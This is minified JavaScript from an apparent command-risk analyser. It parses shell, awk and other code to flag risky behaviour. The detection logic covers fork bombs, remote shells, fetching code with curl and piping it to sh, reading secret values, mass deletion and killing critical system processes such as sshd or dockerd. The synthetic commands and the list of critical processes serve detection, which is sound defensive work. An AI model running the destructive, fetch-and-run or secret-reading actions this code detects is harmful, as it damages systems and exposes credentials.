kind===e&&(s===void 0||s===(t.kind==="made"?t.by:v.lastName(v.word(t)))),rx=t=>e=>{let s=o=>o.kind==="function"||O.made(o,"message"),r=t({...e,args:e.args.filter(
o=>!s(o))}),n=e.args.find(s);return r&&n&&Ve(e.state,n,n.kind==="function"?[r,r]:[r]),r};function Zo(t){let e=t.split(" | ");if(e.length>1){let i=e.map(Zo);return a=>i.
reduce((l,c)=>l??c(a),void 0)}let[s="",...r]=t.split(" ");if(s==="calls-back")return rx(Zo(r.join(" ")));if(s.startsWith("if-")){let[i,a]=s.slice(3).split(":"),
l=Zo(r.join(" ")),c=sx[i]??(d=>Qp(d,i,a));return d=>c(d,a)?l(d):void 0}let n=r.map(tx),o=Object.hasOwn(Il,s);return i=>{let a=n.map(c=>c(i)),l=Zv[s](i,a,r);return o?
I:l}}var nx=ye(Zo),Sn=t=>new Map(Object.entries(t).map(([e,s])=>[e,r=>nx(s)(r)])),Xp=ye(t=>{let{sharedCalls:e}=S,s=S.languages[t],r=new Map(Object.entries(s.aliases)),
n=s.rewrites.map(([o,i])=>[new RegExp(o,"g"),i]);return{...s,sharedFunctions:Sn(e.functions),sharedMethods:Sn(e.methods),sharedDeeds:Sn(e.deeds),functions:Sn(s.
functions),methods:Sn(s.methods),constants:new Map(Object.entries(s.texts).map(([o,i])=>[o,w.text(i)])),canonicalize:o=>{let i=s.case_sensitive===!1?o.toLowerCase():
o,a=n.reduce((l,[c,d])=>l.replace(c,d),i);return r.get(a)??a}}});var Cn=S.codeWords,ox=1e3,ix=64,ax=10;function ti(t){if(!Dl(t))return!1;let e=[],s=[];for(let r=0;r<t.length&&e.length+s.length<ix;r++){let n=lx(t,r);n&&e.push(
n);let{name:o,body:i}=cx(t,r)??{};if(o===void 0||!i)continue;Dl(i)&&!Ll(i,...Cn.waiting)&&s.push(o);let a=Ll(i,"if","unless","case","switch","?","&&","||");!Cn.
spawning.has(o)&&Jp(i,[o])&&!a&&e.push(i)}return e.some(r=>(Dl(r)||Jp(r,s))&&!Ll(r,...Cn.waiting))}function lx(t,e){let s=t[e],r=t[e+1];if(A(s,"loop","for")&&A(
r,"{","do"))return ei(t,e+1);let n=A(r,"("),o=n?de(t,e+1)+1:e+2;if(A(s,"setInterval")&&n){let d=t[o-2];return(d?.kind==="number"?d.number>ax:!A(d,")","}"))?void 0:
t.slice(e+2,o-1)}if(A(s,"for")&&n&&t.slice(e+2,e+4).every(d=>A(d,";")))return ei(t,o);if(!A(s,"while","until")||n&&o!==e+4)return;let i=t[n?e+2:e+1],a=A(i,"true",
"True")||i?.kind==="number"&&i.number!==0;if(A(s,"while")?!a:!A(i,"false"))return;let l=t[o];if(l!==void 0&&!A(l,";","}"))return ei(t,o);let c=(d,u)=>u<e&&(A(d,
";","{")||d.kind==="newline");return t.slice(t.findLastIndex(c)+1,e)}function cx(t,e){let s=A(t[e],"function","def","sub"),r=t[s?e+1:e];if(r?.kind!=="name"||!(s||
A(t[e+1],"=")))return;let n=e+2;for(;!s&&t[n]?.kind==="name"&&n<e+4;)n+=1;A(t[n],"(")&&(n=de(t,n)+1);let o=A(t[n],"=>");if(!(!s&&!o&&!A(t[e+2],"function")))return{
name:r.text,body:ei(t,o?n+1:n)}}var Jp=(t,e)=>t.some((s,r)=>A(s,...e)&&A(t[r+1],"(")),Ll=(t,...e)=>t.some(s=>A(s,...e)),Dl=t=>t.some((e,s)=>{if(e.kind!=="name")
return!1;if(Cn.spawning.has(e.text))return!0;let r=t.slice(s+1,s+5).find(n=>n.kind==="text");return r?.kind==="text"&&Cn.shells.has(e.text)&&/&\s*$/.test(String(
r.pieces.at(-1)))});function ei(t,e){let s=Math.min(t.length,e+ox);return A(t[e],"{")?t.slice(e+1,de(t,e,s)):A(t[e],"do")?t.slice(e+1,s):A(t[e],":")?t.slice(e+1,
Ir(t,e,e,s)):t.slice(e,X(t,e,s,[";"]))}var dx=9,ef=64;function tf(t,e){let{tokens:s}=Qs(t,S.awkLexer);ti(s)&&e.addInvocation("fork-bomb",[]);let r=ux(e.input),n=i=>Zp(s,i,r),o=-1;for(let i=0;i<s.length&&
e.step();i++){let a=s[i],l=s[i+1];if(a.kind==="name"&&A(l,"=")&&r.set(a.text,n(i+2)),A(a,"print","printf"))o=i,e.recordPrint([n(i+1)]);else if(a.kind==="newline"||
A(a,";","}","{"))o=-1;else if(A(a,"system")&&A(l,"("))e.runShellLine(n(i+2));else if(o>=0&&A(a,">",">>"))e.recordWrite(n(i+1),void 0,A(a,">>"));else if(A(a,"|",
"|&")){if(o>=0){let c=n(i+1);e.runShellLine(c),/^(?:\S*\/)?(?:ba|da|z|k)?sh$/.test(v.texts(c)[0])&&e.runShellLine(n(o+1))}else if(A(l,"getline")){let c=s.slice(
Math.max(0,i-ef),i),d=p=>!/^(?:text|name|number)$/.test(p.kind)&&!A(p,"$"),u=c.findLastIndex(d)+1;e.runShellLine(Zp(c,u,r))}}else if(A(a,"getline")){let c=s.slice(
i+1,i+4).findIndex(d=>A(d,"<"));c>=0&&e.readFile(n(i+2+c))}}}function ux(t){let e=new Map,{args:s,environment:r,separator:n=" "}=t;for(let[a,l]of t.variables)e.
set(a,w.text(cl(l)));for(let[a,l]of s.entries())e.set(`ARGV[${a+1}]`,jt(l));for(let[a,l]of Object.entries(r))e.set(`ENVIRON[${a}]`,jt(l));let o=or(t);if(!o)return e;
let i=v.texts(o);if(e.set("$0",w.alternatives(i)),/^[^\\.*+?[\]^$|()]$/.test(n)){let a=i.map(l=>n===" "?l.trim().split(/\s+/):l.split(n));for(let l=1;l<=dx;l+=1)
e.set(`$${l}`,w.alternatives(a.map(c=>c[l-1]??"")));e.set("$NF",w.alternatives(a.map(l=>l.at(-1)??"")))}return e.set("$",w.text(i.some(a=>!a.includes("\uFFFC"))?
"\uFFFC\uFFFB":"\uFFFC")),e}var jl=t=>t?.kind==="text"?String(t.pieces[0]):t?.kind==="number"?String(t.number):t?.kind==="name"?t.text:"";function Zp(t,e,s){let r=[];
for(let n=e;n<Math.min(t.length,e+ef);n++){let o=t[n];if(o.kind==="text")r.push(w.text(jl(o)));else if(o.kind==="name"){let i=A(t[n+1],"[")&&A(t[n+3],"]"),a=i?`${o.
text}[${jl(t[n+2])}]`:o.text;r.push(s.get(a)??w.text("\uFFFC")),i&&(n+=3)}else if(A(o,"$")){let i=s.get(`$${jl(t[n+1])}`);r.push(i??s.get("$")??w.text("\uFFFC")),
n+=1}else if(!A(o,"(")||r.length>0)break}return r.length===0?w.text("\uFFFC"):w.joined(r)}var{forms:lr}=S;function sf(t){let e=[...t.matchAll(lr.test_clause)];if(e.length===0)return!1;let s=of(t),r=o=>/\$_|^\s*\(?\s*m?\//.test(o)||Wl(o).some(i=>s.has(
i)),n=K(t,"skips");return e.some(([o,i=""])=>{if(!r(i))return/^(?:fnmatch|grep|select|filter)\b/.test(o)&&!K(o,"negative-tests");let a=i.split(/\band\b|&&/).filter(
c=>!K(c,"age-tests")).filter(c=>K(c.replace(/=>|->/g,""),"name-tests")||!K(c,"kind-tests")),l=/^(?:unless|reject)/.exec(o)?.[0]??"";return a.some(c=>K(`${l} ${c}`,
"negative-tests")===n)})}function rf(t){let e=of(t),s=[...t.matchAll(lr.test_clause)].flatMap(([r])=>[...[...r.matchAll(lr.tested_name)].flatMap(([,n,o])=>e.has(
n)?[o]:[]),...[...r.matchAll(lr.tested_ending)].flatMap(([,n,o])=>(n??o).split("|").map(i=>`*.${i.replaceAll("\\","")}`))]);return w.glob(w.text(...new Set(s),"\
\uFFFC"))}var nf=t=>[...t.matchAll(lr.test_clause)].flatMap(([e])=>{let s=e.split(/\band\b|&&/).filter(n=>!K(n,"negative-tests"));return(K(e,"process-tests")?[...s.
join(" ").matchAll(lr.process_name)]:[]).map(([,n])=>n)}),Wl=t=>t.match(/\w+/g)??[];function of(t){let e=[...t.matchAll(lr.loop_variable)],s=new Set(e.flatMap(r=>Wl(
r.slice(1).join(" "))));for(let[,r,n]of t.matchAll(/(\w+)\s*=(?![=>])([^\n;]{1,200})/g))!K(n,"age-tests")&&Wl(n).some(o=>s.has(o))&&s.add(r);return s}var{codeWords:si,forms:ri}=S,px=4e4,af=512,oi=class{constructor(e,s,r=""){this.source=e;this.context=s;this.input=s.input??Go,this.mayHideInput=Np(r,this.input,
e),this.chosen=sf(r)?rf(r):void 0,this.processNames=nf(r),this.signs={has:ye(n=>K(r,n))}}source;context;invocations=[];options=new Map;imitations=new Map;postponed=[];isRepeating=!1;listeners=new Map;modules=new Set;openedDatabases=[];temporaryTables=new Set;problem;folder;remainingSteps=px;input;mayHideInput;chosen;processNames;signs;imitates(e){
return this.imitations.has(e)||this.signs.has(`stubbed-${e}`)}get isMocked(){return this.signs.has("imitation")&&!this.signs.has("database")}get isInMemory(){let e=(...r)=>r.
some(n=>this.signs.has(n));return this.openedDatabases.length>0&&this.openedDatabases.every(Boolean)&&!e("driver","attaches","own-connection","database-address")?
!0:e("in-memory")&&!e("database","driver","attaches","several-connections")}isLibrary(e){let s=[...this.modules].find(r=>e===r||e.startsWith(`${r}.`));return s!==
void 0&&!s.startsWith(".")&&!si.standard.has(s.split(/[./]/)[0])}get choosesProcesses(){return this.chosen!==void 0&&this.signs.has("names-processes")&&!this.signs.
has("by-user")}get isEmulated(){let s=Object.entries(this.input.environment).filter(([o])=>o.endsWith("_EMULATOR_HOST")).some(([,{text:o}])=>/^(?:localhost|127\.\d+\.\d+\.\d+):\d+$/.
test(o)),r=[...this.modules].filter(o=>this.isLibrary(o));return new Set(r.map(o=>o.replace("@","").split(/[/.]/)[0])).size===1&&(s||this.signs.has("emulated"))}enter(e){
this.folder=/^[\w./~-]/.test(e)&&!this.signs.has("own-folder")?e:void 0}recordPrint(e,s=" ",r=`
`){for(let{value:o}of v.parts(e)){let i=o.kind==="content"?o:V.secretContent(o);i&&this.recordSecrets(i)}if(!this.context.onPrint)return;let n=e.map(o=>v.flat([
o]).flatMap(v.texts).map(Fl).map(a=>this.markUnread(a)).join(`
`));this.context.onPrint(n.join(s)+r)}recordSecrets(e){for(let s of e.from)s.program==="printenv"&&s.args.length===0&&this.signs.has("secret-names")&&e.variable!==
void 0?this.addInvocation("printenv",["SECRET_KEY"]):(e.variable!==void 0||s.args[1]?.text==="get-secret-value")&&this.add(s)}markUnread(e){return this.mayHideInput&&
e==="\uFFFC"?"\uFFFC\uFFFB":e}step(e=1){return this.remainingSteps-=e,this.remainingSteps<0&&this.fail("too-much","the code takes too many steps to read"),this.
problem===void 0}fail(e,s){this.problem??={kind:e,detail:s}}addInvocation(e,s,r={}){let o=si.deleting_programs.has(e)&&this.chosen===void 0?V.content(s.filter(d=>typeof d==
"object"))?.from:void 0,a=o?.length===1&&o[0].program==="find"?{wrappers:["xargs"],input:{kind:"pipe",from:o}}:{},l=this.createInvocation(e,s,{...a,...r}),[c]=l.
args;return e==="sql"&&c?.text.endsWith("-some")&&this.signs.has("production")&&(c.text=c.text.replace("some","production")),this.mayHideInput&&si.destructive_programs.
has(e)&&(l.args=l.args.map(d=>({...d,text:this.markUnread(d.text)}))),this.add(l),l}createInvocation(e,s,r={}){let n=s.flatMap(i=>ni(i,si.deleting_programs.has(
e))),o=e==="sql"?"sql":this.source;return{...bt(e,n),language:o,...r}}readFile(e=I){if(e.kind==="content"||e.kind==="made")return e;let s=v.texts(e),r=s.every(o=>K(
o,"stdin-names"))?or(this.input):void 0;return r||(this.signs.has("prints-names")&&!this.input.printsLast&&s.every(o=>K(o,"variable-file"))||this.addInvocation(
"cat",[e],{redirects:Ml("read",ni(e,!1))}),w.content([],s))}recordWrite(e=I,s,r=!1){let n=s&&V.content([s]);if(!n&&v.texts(e).every(p=>ri.below_new_folder.test(
p)))return;let o=this.signs.has("encrypts")||(s===void 0?!this.signs.has("writes"):O.known(s)&&!n),a=(s===void 0||v.firstText(s)==="")&&v.texts(e).every(p=>/\.(?:sqlite3?|db)$/.
test(p)),l=v.texts(e).some(p=>/[*\u{FFF9}][^/]*$/u.test(p));if(o&&!r&&(l||a)){this.addInvocation("truncate",["-s","0",e]);return}this.addInvocation("printf",["%\
s",s??I],{redirects:Ml(r?"append":"write",ni(e,!1)),...this.createInput(n)});let[c,d]=[v.firstText(e),v.firstText(s)];(!c.includes("\uFFFC")||c.startsWith("/tmp\
/"))&&!d.includes("\uFFFC")&&this.context.onWrite?.(c,d)}createInput(e){if(!e)return{};let s=Ml("read",xe(e.files));return{input:{kind:"pipe",from:[...s.length>
0?[this.createInvocation("cat",e.files,{redirects:s})]:[],...e.from]}}}runShellLine(e){let s=e?.kind==="name"?V.root(e):e,r=s&&V.content([s]),n=e?.kind==="conte\
nt"&&e.of?.every(o=>ri.known_command.test(o));return r&&!n?w.content([this.addInvocation("sh",[],this.createInput(r))]):w.merged(v.texts(e).map(o=>this.readCommand(
this.markUnread(lf(o)))))}runProgram(e){let[s,r,n]=e;return ri.shell_program.test(v.firstText(s).replace(/^.*\//,""))&&v.firstText(r)==="-c"&&n?.kind==="content"?
this.runShellLine(n):this.readCommand(lf(e.flatMap(v.texts).map(fx).join(" ")))}readCommand(e){if(!this.step(8))return w.content([]);let{invocations:s,problem:r,
output:n}=this.context.readCommand(e,this.folder);this.problem??=r;for(let o of s)this.add(o);return{kind:"content",files:[],from:s,of:n?[n.trimEnd()]:void 0}}add(e){
this.invocations.length>=af?this.fail("too-much",`the code does more than ${af} things`):this.invocations.push(e)}},Fl=t=>t.replaceAll(os,"\uFFFC"),lf=t=>ri.deletes.
test(t)?t.replaceAll(os,"*").replace(/'([^'\s]*\*)'/g,"$1"):Fl(t);function ni(t,e){if(t===void 0)return[];if(typeof t=="string")return[R(t)];if(t.kind==="conten\
t"&&t.files.length>0)return xe(t.files.map(r=>`@${r}`));if(t.kind==="list")return t.items.flatMap(r=>ni(r,e));if(t.kind==="map")return e?[]:xe([...t.entries.keys()]);
let s=O.glob(t)||t.kind==="content"&&v.firstText(t).includes("*");return v.texts(t).map(r=>e&&r.includes(os)?R(r.replaceAll(os,"*"),!0):R(Fl(r),s))}var Ml=(t,e)=>e.
map(s=>({kind:t,path:s})),fx=t=>/^[\w@%+=:,./-]+$/.test(t)?t:`'${t.replaceAll("'","'\\''")}'`;var Ul=65536,mx={evaluate:pt,call:Tt,interpret:Ip};function ii(t,e,s){let r=new oi(t,s,e.slice(0,Ul)),n=t==="php"?e.replace(/<\?(?:php\b|=)/g,";").replace(/(?<=\w)\\(?=[A-Z])/g,
"::"):e;return e.length>Ul?r.fail("too-long",`the ${t} code is longer than ${Ul} characters`):t==="sql"?Dr(e,r):t==="awk"?tf(e,r):hx(Xp(t),n,r),{invocations:r.invocations,
..._e({problem:r.problem||void 0})}}function hx(t,e,s){let{tokens:r}=Qs(e,t.lexer);if(r.length>=Oo){s.fail("too-much",`the code has more than ${Oo} words`);return}
(ti(r)||s.signs.has("respawns"))&&s.addInvocation("fork-bomb",[]),s.signs.has("remote-shell")&&s.addInvocation("sh",[],s.createInput(w.received()));let n=s.createInvocation(
"curl",["https://example.com"]);s.signs.has("remote-code")&&s.addInvocation("sh",[],s.createInput(w.content([n])));let o=new Or;Lp(t.inputs,o,s.input);let i=new Do(
t,s,o,r,mx),a=i.interpret();s.input.printsLast&&s.recordPrint([a]),i.body=void 0;let l=d=>!s.signs.has("sets-names")&&(A(r[d+2],...S.codeWords.function_fields)||
A(r[d-1],"(")&&A(r[d-2],...S.codeWords.showing_functions)),c=r.flatMap((d,u)=>d.kind==="name"&&!l(u)?[d.text]:[]);for(let d of i.definitions){if(s.problem!==void 0)
break;s.imitations=new Map;let{name:u,parameters:p,from:f,tokens:m}=d,h=u===void 0||c.indexOf(u)!==c.lastIndexOf(u)||p[0]?.name==="self",g=d.mocks?.length&&s.signs.
has("serves"),y=i.definitions.some(C=>C.called&&C.from===f&&C.tokens===m),x={kind:"function",definition:d},$=!y&&(h||g)?i.call(x):void 0;u==="__reduce__"&&$?.kind===
"list"&&$.items[1]&&i.call($.items[0],...v.elements($.items[1]))}}var cr="/work";var tO=new Set("bin boot dev etc lib lib32 lib64 libx32 proc run sbin sys tmp usr world".split(" ").map(t=>`/${t}`));function Ss(t,e=""){try{return new RegExp(t,e)}catch{return}}var Vl=JSON.parse('{"names":["systemd*","init","sshd","ssh","dockerd","docker","containerd","kubelet","cron","crond","rsyslogd","auditd","NetworkManager","dbus*\
","Xorg","gnome-shell","explorer.exe","Finder","loginwindow","launchd","WindowServer","mysqld","mariadbd","postgres*","nginx","apache2","httpd","mongod","redis-\
server","udevd","login","firefox","chrome","google-chrome","supervisord","php-fpm","haproxy","named","ntpd","polkitd"],"ports":{"22":"sshd","53":"named","2375":\
"dockerd","2376":"dockerd","10250":"kubelet","ssh":"sshd","domain":"named"}}');var{programWords:hf,forms:cs}=S,gx=Vl.names.map(t=>t.replace("*","")),gf=new Map(Object.entries(Vl.ports)),bx=60,yx=4;function bf(t){if(t.length>bx||!/\w/.test(
t)||/[\s/]|\\\d/.test(t))return[];let e=t.replace(/\)(?:[*+?]|\{\d*,?\d*\})+/g,")");if((e.match(/[*+?{]/g)??[]).length>yx)return[];let s=Ss(e);return gx.filter(
r=>{let n=s?.exec(r);if(!n)return!1;let o=n[0].length*2;return o>r.length||n.index===0&&o===r.length})}var ai="*";function yf(t,e){let s=t.filter(i=>i.program===
"kill"&&le(i).includes("\uFFFC")&&!wf(i)),n=s.some(({input:i})=>i===void 0||i.kind==="text")?e:e.filter(({captured:i})=>i),o=[...t.flatMap(wx),...s.some(i=>Cx(i,
e))?[ai]:[],...s.flatMap(({input:i})=>i?.kind==="file"?li(i.path.text):[]),...s.flatMap(i=>cf(ce(i))),...s.length>0?cf(n):[]];return xe([...new Set(o)])}function wf({
program:t,args:e}){let{flags:s,options:r}=$e(t,e),o=[...r.filter(({flag:i})=>/^(-s|--signal)$/.test(i)).map(({value:i})=>i.text),...s.filter(i=>/^-(\d+|[A-Z]{3,})$/.
test(i)).map(i=>i.slice(1))];return o.length>0&&o.every(i=>i==="0")}function wx({program:t,path:e,args:s}){if(e.startsWith("/etc/init.d/")&&s[0]?.text==="stop")
return[t];if(/^(nginx|httpd|apachectl|apache2ctl)$/.test(t))return s.some(({text:n})=>/^(stop|quit|graceful-stop)$/.test(n))?[t.replace(/ctl$/,"2")]:[];if(!hf.killers.
has(t))return[];let r=$e(t,s);return t==="fuser"?xx(r):t==="start-stop-daemon"?vx(r):wf({program:t,args:s})?[]:kf(t,r)}function kf(t,{flags:e,options:s,operands:r}){
let n=t!=="killall"&&ue(e,"-f"),o=/^p(kill|grep)$/.test(t)&&!ue(e,"-x","--exact");return[...r.flatMap(({text:i})=>[...Bl(i,n),...o?/^\w$/.test(i)?[ai]:bf(i):[]]),
...s.flatMap(({value:i})=>li(i.text))]}var kx=200;function Bl(t,e){return t.slice(0,kx).split("|").flatMap(r=>{let n=r.replace(/\[(.)\]/g,"$1").replace(/\\[b<>]|[\^$()\\]|^\.\*|\.\*$/g,
""),[o="",...i]=n.trim().split(/\s+/);if(e&&i.length>0&&!o.endsWith(":")&&!cs.daemon_path.test(o))return[];let a=o.replace(/:$/,"").replace(/^.*\//,"");return a===
""?[]:[a.replace(/\.exe$/i,"")]})}var li=t=>/^\/(?:var\/)?run\/(?:.*\/)?([\w.-]+?)\.pid$/.exec(t)?.slice(1)??[];function vx({flags:t,options:e}){return ue(t,"-K",
"--stop")?e.flatMap(({flag:s,value:r})=>/^(-n|--name|-x|--exec)$/.test(s)?Bl(r.text,!1):li(r.text)):[]}function xx({flags:t,operands:e}){return ue(t,"-k","--kil\
l")?ue(t,"-m","-M","-c","--mount")?[ai]:e.flatMap(({text:s})=>/^\/+[\w.-]*\/*$|^~\/*$/.test(s)?[ai]:gf.get(s.replace(/\/(tcp|udp|sctp)$/,""))??[]):[]}function cf(t){
let e=t.some(({program:s})=>s==="ps");return t.flatMap(s=>$x(s,e))}function $x({program:t,args:e,redirects:s,filter:r},n){switch(t){case"pgrep":case"pidof":return kf(
t,$e(t,e));case"cat":case"head":case":":return[...e,...s.map(({path:o})=>o)].flatMap(({text:o})=>li(o));case"ps":return uf("ps",e,"-C");case"lsof":return[...uf(
"lsof",e,"-c"),...e.flatMap(({text:o})=>gf.get(cs.lsof_port.exec(o)?.[1]??"")??[])];case"systemctl":{let[o,...i]=$e(t,e).operands.map(({text:a})=>a);return i.flatMap(
a=>/^(.*)\.service$/.exec(a)?.[1]??(o==="show"?a:[]))}default:return n?/^[gmn]?awk$/.test(t)?xf(r?.code??"").flatMap(df):/^(e|f)?grep$|^rg$/.test(t)?vf(e).flatMap(
df):[]:[]}}var df=t=>[...Bl(t,!0),...bf(t)],uf=(t,e,s)=>$e(t,e).options.flatMap(({flag:r,value:n})=>r===s?n.text.split(","):[]),zl=2e3;function _x({program:t,args:e,
filter:s}){let r=e.map(n=>n.text).join(" ");if(r.length>zl)return!1;if(/^(([efg]|gg)?(grep|rg)|ag|ack|ugrep)$/.test(t)){let n=vf(e);return n.length>0&&n.every(Hl)}
if(/^g?sed$/.test(t)){let[,n,o,,i]=cs.matching_lines.exec(r)??[];return cs.one_line.test(r)||Hl(n??o??i??"")}return/^[gmn]?awk$/.test(t)?Sx(s?.code??""):t==="he\
ad"||t==="tail"?cs.few_lines.test(r):t==="fzf"}function vf(t){let{flags:e,options:s,operands:r}=$e("grep",t);if(ue(e,"-v","--invert-match"))return[];let n=s.filter(
({flag:o})=>o==="-e"||o==="--regexp").map(({value:o})=>o);return(n.length>0?n:r.slice(0,1)).map(({text:o})=>o)}function Hl(t){return/\)(?:[*?]|\{0|\{,)/.test(t)?
!1:t.split(/\\?\|/).every(e=>{let s=e.replace(/\[\[:\w+:\]\]|\[([^\]^])\]/g,"$1").replace(/\[[^\]]*\]|\\[a-zA-Z<>]/g," ").replace(/\\?.(?:[*?]|\\\?|\\?\{(?:0|,)[^}]*\})/g,
" ").replace(/\\?[(){}^$+]|\\/g,"");return s.includes("\uFFFC")||/\w\w/.test(s)&&!cs.word_everywhere.test(s.trim())})}function Sx(t){return t.length>zl||/\|\||\}\s*(?:\{|1|;)|;\s*1\b|^\s*\{(?!\s*if\b)/.
test(t.replace(/\bBEGIN\s*\{[^}]*\}/g,""))?!1:xf(t).some(Hl)?!0:cs.awk_comparison.test(t)}function xf(t){return t.length>zl?[]:[...t.matchAll(/(!~?\s*)?(?:\/((?:[^/\\\n]|\\.)+)\/|~\s*"([^"\n]+)")/g)].
flatMap(([,s,r,n])=>s===void 0?r??n??[]:[])}function Cx(t,e){let s=ce(t);if(s.some($f))return ff(s).length>0;let r=e.filter(i=>hf.keepers.has(i.program)||pf(i)),
n=new Set(r.flatMap(ce)),o=i=>i.captured||i.language!=="shell"||pf(i)||n.has(i);return ff(e).some(o)}var pf=({redirects:t})=>t.some(({kind:e})=>e!=="read");function ff(t){
let e=t.filter($f),s=t.filter(n=>mf(n).length>0&&_x(n)),r=new Set(s.flatMap(mf));return e.filter(n=>!r.has(n))}var mf=t=>t.filter?.from??ce(t),$f=({program:t,args:e})=>t===
"ps"&&(e.some(({text:s})=>cs.ps_all.test(s))||!e.some(({text:s})=>cs.ps_choice.test(s)));Ct();function j(t,{short:e="",long:s=[],optional:r="",permuted:n}){let o=[],i=[],a=[...t],l=(u,p)=>o.push({name:u,..._e({value:p})}),c=({text:u,glob:p})=>{let[,f="",
m]=/^--([^=]*)(?:=([\s\S]*))?$/.exec(u),h=Io(f,s);m===void 0?l(h,s.includes(h)?a.shift():void 0):l(h,{text:m,glob:p})},d=({text:u,glob:p})=>{for(let f=1;f<u.length;f+=
1){let m=u[f],h=u.slice(f+1),g=r.includes(m)&&(h!==""||a[0]?.text.startsWith("-")!==!1);if(!e.includes(m)||g)l(m);else{l(m,h===""?a.shift():{text:h,glob:p});break}}};
for(;a.length>0&&a[0].text!=="--";){let{text:u}=a[0],p=u.length>1&&u.startsWith("-");if(!p&&!n)break;let f=a.shift();p?u.startsWith("--")?c(f):u.length>2&&s.includes(
u.slice(1))?l(u.slice(1),a.shift()):d(f):i.push(f)}return i.push(...a.slice(a[0]?.text==="--"?1:0)),{options:o,operands:i}}var z=(t,...e)=>t.some(({name:s})=>e.
includes(s)),W=(t,...e)=>t.flatMap(({name:s,value:r})=>e.includes(s)&&r?[r]:[]);function ci(t,e){let s=({text:n},o)=>n===";"||n==="+"&&/\{\}|\u{FFFC}/u.test(t[o-
1].text),r=t.findIndex((n,o)=>o>e&&s(n,o));return r===-1?t.length:r}var{forms:Pt}=S,Ex=200;function Gl(t,e,s){if(e.program==="find")return di(e.args);if(t.length===0||s.length>Ex)return t;let n=s.slice(0,Math.max(0,s.indexOf(e))).
filter(({program:o})=>o==="mv").flatMap(({args:o})=>{let i=o.filter(({text:l})=>!l.startsWith("-")),a=i.at(-1);return a&&i.length>1&&t.some(({text:l})=>_f(a.text,
l)||_f(l,a.text))?i.slice(0,-1):[]});return[...t,...n]}var _f=(t,e)=>`${t}/`.startsWith(`${e.replace(/\/\*?$/,"")}/`),Ax=new Set(S.getopt.find.long.map(t=>`-${t}`)),
Sf=()=>({names:[],empty:!1,byProperty:!1,deletes:!1,acts:!1});function Kl(t){let e=[],s=[Sf()],r=!1,n=0,o=!1;for(let i=0;i<t.length;i+=1){let{text:a}=t[i],l=s.at(
-1);l.acts||=Pt.find_action.test(a);let c=()=>{l.deletes=!0,n>0&&o&&(l.names=["*"])};a==="("?n+=1:a===")"?n=Math.max(0,n-1):/^(-o|-or|,)$/.test(a)?(o=!0,n===0&&
s.push(Sf())):Pt.find_command.test(a)?(Pt.deleting_program.test(t[i+1]?.text??"")&&c(),i=ci(t,i)):a==="-delete"?c():a==="!"||a==="-not"?r=!0:Pt.find_by_name.test(
a)?(r||l.names.push(t[i+1]?.text??"*"),r=!1,i+=1):a==="-fprintf"?i+=2:Ax.has(a)||/^-newer[aBcm][aBcmt]$/.test(a)?(l.byProperty||=Pt.find_by_property.test(a),r=!1,
i+=1):a==="-empty"?l.empty=!0:!a.startsWith("-")&&s.every(({names:d})=>d.length===0)&&e.push(a.replace(/\/$/,""))}return{starts:e.length>0?e:["."],branches:s}}var En=ye(
t=>{let{starts:e,branches:s}=Kl(t),r=s.filter(({deletes:a})=>a),n=s.some(({acts:a})=>a)?s.filter(({acts:a})=>a):s,o=n.flatMap(a=>a.names),i={...n.at(-1),names:o,
empty:n.some(({empty:a})=>a)};return e.flatMap(a=>(r.length>0?r:[i]).flatMap(l=>Tx(l,a)).map(l=>R(`${a}/${l.replace(/^\.?\/?\*\/|^\.\//,"")}`,!0)))},new WeakMap);
function Tx({names:t,empty:e,byProperty:s},r){return t.length>0?t:e?["tmp"]:[s&&Pt.temp_root.test(r)?"\uFFFC":"*"]}var di=t=>Kl(t).branches.some(({deletes:e})=>e)?
En(t):[];function Px({args:t}){let{options:e,operands:s}=j(t,{short:"e",long:["extension"],permuted:!0}),[r]=W(e,"e","extension"),n=r?`*.${r.text}`:s[0]?.text??
"*",[,o]=/^\^?\(([\w.\\|]+)\)\$?$/.exec(n)??[];return(o?.replaceAll("\\","").split("|")??[/^[.^$]*$/.test(n)?"*":n]).map(a=>R(`${s[1]?.text??"."}/${a}`,!0))}function dr(t,e){
let s=t.wrappers.findLast(a=>Pt.supplying_wrapper.test(a)),r=s&&Rx(s,t,e);if(!r)return Cf(t,e);let n=Ix(t,r)??qx(r);if(n.length===0)return t.args;let o=s==="fin\
d"?Kl(r.args).starts.map(a=>`${a}/`):[""],i=({text:a})=>o.some(l=>a.includes(l+"\uFFFC"));return t.args.some(i)?t.args.flatMap(a=>{if(!i(a)||a.text.startsWith("\
-"))return[a];let[l=""]=/^[^\u{FFFC}]*[@=]/u.exec(a.text)??[];return n.map(({text:c,glob:d})=>({text:l+c,glob:d}))}):Cf(t,e)}function Cf(t,e){let{args:s,language:r}=t,
n=r==="shell"?ce(t):[],o=e.filter(c=>c.program==="ls"&&(c.captured||n.includes(c))),i=Math.min(...o.map(({wrappers:c})=>c.length)),a=e.filter(c=>Pt.choosing_filter.
test(c.program)&&c.wrappers.length>=i);if(o.length===0||a.length>0)return s;let l=o.map(c=>c.args.filter(({text:d})=>!d.startsWith("-")).map(({text:d})=>d));return s.
map(c=>{let[,d]=new RegExp(`^(?:(.*)/)?${"\uFFFC"}$`,"s").exec(c.text)??[],u=([f,...m])=>m.length===0&&f?.replace(/\/$/,"")===d;return(/^[/~]/.test(d??t.folder?.
text??"")||s.some(({text:f})=>/^-\w*[rR]/.test(f)))&&c.text.endsWith("\uFFFC")&&l.some(u)?R(d===void 0?"./*":`${d}/*`,!0):c})}function Rx(t,e,s){if(t!=="find"&&
t!=="fd")return ce(e).find(({program:n})=>Pt.search_program.test(n));let r=({program:n})=>t==="find"?n==="find":Pt.fd.test(n);return s.slice(0,s.indexOf(e)).findLast(
r)??s.find(r)}function Ix(t,e){let s=le(ce(t).at(-1)??e),[,r]=/^[ef]?grep (?:-E )?\\\.\(?([\w|]+)\)?\$$/.exec(s)??[];return e.args.every(({text:o})=>/^(?:-|ls-files$|\.$|[fd]$)/.
test(o))?r?.split("|").map(o=>R(`./*.${o}`,!0)):void 0}function qx(t){if(t.program==="find")return En(t.args);if(Pt.fd.test(t.program))return Px(t);let e=t.args.
filter(({text:n})=>!n.startsWith("-"));if(t.program==="ls")return(e.length>0?e:[R(".")]).map(({text:n,glob:o})=>R(o?n:`${n.replace(/\/$/,"")}/*`,!0));let[s,...r]=e;
return t.program!=="git"||s?.text!=="ls-files"?[]:(r.length>0?r:[R("*")]).map(({text:n})=>R(`./${n}`,!0))}function An(t,{flags:e,options:s,operands:r}){let n={reads:[],
